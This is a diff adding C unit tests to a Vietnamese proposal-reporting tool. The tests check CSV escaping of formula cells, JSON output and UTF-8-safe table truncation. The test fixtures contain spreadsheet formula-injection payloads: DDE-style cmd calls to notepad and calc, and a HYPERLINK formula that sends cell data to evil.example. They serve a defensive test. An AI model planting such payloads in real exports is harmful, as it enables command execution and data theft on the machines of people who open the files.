@@ -1003,12 +1003,165 @@ test_json(void **state)
 	report_compliance_free(r);
 }
 
+/* ---- output cells ---------------------------------------------------------
+ */
+
+/* The whole file at path (NUL added); *len its bytes. */
+static char *
+slurp(const char *path, size_t *len)
+{
+	FILE *fp = fopen(path, "rb");
+	char *buf;
+
+	assert_non_null(fp);
+	assert_non_null(buf = malloc(1 << 16));
+	*len      = fread(buf, 1, (1 << 16) - 1, fp);
+	buf[*len] = 0;
+	fclose(fp);
+	return buf;
+}
+
+/* A proposal of 700 bytes of Vietnamese: every cell cut at a byte count
+ * would land inside a character. */
+static void
+long_text(char *out, size_t n)
+{
+	static const char word[] = "Đề nghị hỗ trợ làm đường bê tông ";
+	size_t k                 = 0;
+
+	while (k + sizeof(word) < n) {
+		memcpy(out + k, word, sizeof(word) - 1);
+		k += sizeof(word) - 1;
+	}
+	out[k - 1] = 0; /* no trailing space: the cell needs no quotes */
+}
+
+/* Cells that a spreadsheet would run as formulas (= + - @, TAB- and
+ * CR-led) are written as text in CSV; numbers, negative ones too, stay
+ * numbers; JSON keeps the values as they are; nothing is cut in CSV or
+ * JSON, and a text table cuts a long cell only between characters, with
+ * an ellipsis. */
+static void
+test_cells(void **state)
+{
+	char dir[] = "/tmp/coso-cells-XXXXXX", path[64], text[720];
+	struct report_prop p[2] = {
+	    {"cb-a", "+cmd|' /C notepad'!A0", "\tV1",
+	        "@SUM(1+1)*cmd|' /C calc'!A0",
+	        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")", "C1",
+	        "-2+3", 20250720, -5, 0},
+	    {"cb-b", "Nguyễn Văn An", "\rV2", "Thôn Nà Pàn", text, "C1",
+	        "Xã Đào Viên", 20250101, 12, 2},
+	};
+	struct report_proposals r = {.today = TODAY, .items = p, .nitems = 2};
+	char err[REPORT_ERRMSG_MAX], *buf, *line, *eol, want[2048];
+	size_t len, n;
+	json_t *j;
+
+	(void) state;
+	long_text(text, sizeof(text));
+	assert_true(strlen(text) > 600);
+	assert_non_null(mkdtemp(dir));
+	snprintf(path, sizeof(path), "%s/p.csv", dir);
+	assert_int_equal(report_write_proposals(&r, REPORT_CSV, path, err), 0);
+	buf = slurp(path, &len);
+	n   = (size_t) snprintf(want, sizeof(want),
+	      "\xEF\xBB\xBFNgày,Số ngày,Trạng thái,Mã đơn vị,Đơn vị,Cán bộ,"
+	        "Chuyển đến,Nội dung kiến nghị\r\n"
+	        "20/07/2025,-5,Chưa trả lời,\"'\tV1\","
+	        "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+cmd|' /C notepad'!A0\","
+	        "\"'-2+3\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+	        "\"\"Bấm vào\"\")\"\r\n"
+	        "01/01/2025,12,Đã giải quyết,\"'\rV2\",Thôn Nà Pàn,"
+	        "Nguyễn Văn An,Xã Đào Viên,%s\r\n",
+	      text);
+	assert_true(n < sizeof(want));
+	assert_int_equal(len, n);
+	assert_memory_equal(buf, want, n);
+	free(buf);
+
+	/* JSON: the values unchanged, the long one whole. */
+	assert_non_null(j = report_proposals_json(&r));
+	assert_string_equal(
+	    json_string_value(json_object_get(
+	        json_array_get(json_object_get(j, "proposals"), 0), "text")),
+	    p[0].text);
+	assert_string_equal(
+	    json_string_value(json_object_get(
+	        json_array_get(json_object_get(j, "proposals"), 1), "text")),
+	    text);
+	json_decref(j);
+
+	/* The table: valid UTF-8 throughout; the long text cut after 59
+	 * whole characters, then "…"; control characters as spaces. */
+	snprintf(path, sizeof(path), "%s/p.txt", dir);
+	assert_int_equal(
+	    report_write_proposals(&r, REPORT_TABLE, path, err), 0);
+	buf = slurp(path, &len);
+	assert_int_equal(coso_text_check((const uint8_t *) buf, len), COSO_OK);
+	assert_null(strchr(buf, '\t'));
+	assert_null(strchr(buf, '\r'));
+	assert_non_null(line = strstr(buf, "01/01/2025"));
+	assert_non_null(eol = strchr(line, '\n'));
+	*eol = 0;
+	/* 59 characters of text: "Đề nghị hỗ trợ làm đường bê tông " is
+	 * 33, then 26 of the next. */
+	assert_non_null(strstr(line,
+	    "Xã Đào Viên  Đề nghị hỗ trợ làm đường bê tông Đề nghị hỗ trợ "
+	    "làm đường b…"));
+	assert_true(
+	    strlen(line) > 3 && strcmp(line + strlen(line) - 3, "…") == 0);
+	free(buf);
+	snprintf(path, sizeof(path), "rm -rf %s", dir);
+	assert_int_equal(system(path), 0);
+}
+
+/* A cadre of the sector in charge of 40 communes: the pack lists every
+ * one of them (it used to stop at 256 bytes), in CSV too. */
+static void
+test_pack_many_units(void **state)
+{
+	struct fx *f          = *state;
+	struct coso_body *b   = body();
+	struct report_pack *r = NULL;
+	char err[REPORT_ERRMSG_MAX], code[32], path[128], *csv;
+	size_t i, len;
+
+	unit_op(b, "20", 1, NULL, 20200101, 0, NULL);
+	unit_op(b, "180", 2, "20", 20200101, 0, NULL);
+	cadre_op(b, "cb-a");
+	assign_op(b, "cb-a", NULL, "KT", 1, 20250101, 0);
+	for (i = 0; i < 40; i++) {
+		snprintf(code, sizeof(code), "COMMUNE-%04zu", i);
+		unit_op(b, code, 3, "180", 20200101, 0, NULL);
+		assign_op(b, "cb-a", code, NULL, 1, 20250101, 0);
+	}
+	push(f, &f->admin, b, T0, T0);
+	coso_body_free(b);
+	assert_int_equal(
+	    report_pack(rdb(f), "2025-Q3", "KT", TODAY, &r, err), 0);
+	assert_int_equal(r->nlines, 1);
+	/* 40 codes of 12 characters, 39 separators of 2. */
+	assert_int_equal(strlen(r->lines[0].units), 40 * 12 + 39 * 2);
+	assert_non_null(strstr(r->lines[0].units, "COMMUNE-0000, "));
+	assert_non_null(strstr(r->lines[0].units, ", COMMUNE-0039"));
+	snprintf(path, sizeof(path), "%s/pack.csv", f->dir);
+	assert_int_equal(report_write_pack(r, REPORT_CSV, path, err), 0);
+	csv = slurp(path, &len);
+	assert_non_null(strstr(csv, r->lines[0].units));
+	free(csv);
+	report_pack_free(r);
+}
+
 int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test_setup_teardown(test_small, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_json, setup, teardown),
+	    cmocka_unit_test(test_cells),
+	    cmocka_unit_test_setup_teardown(
+	        test_pack_many_units, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_generated, setup, teardown),
 	};
 
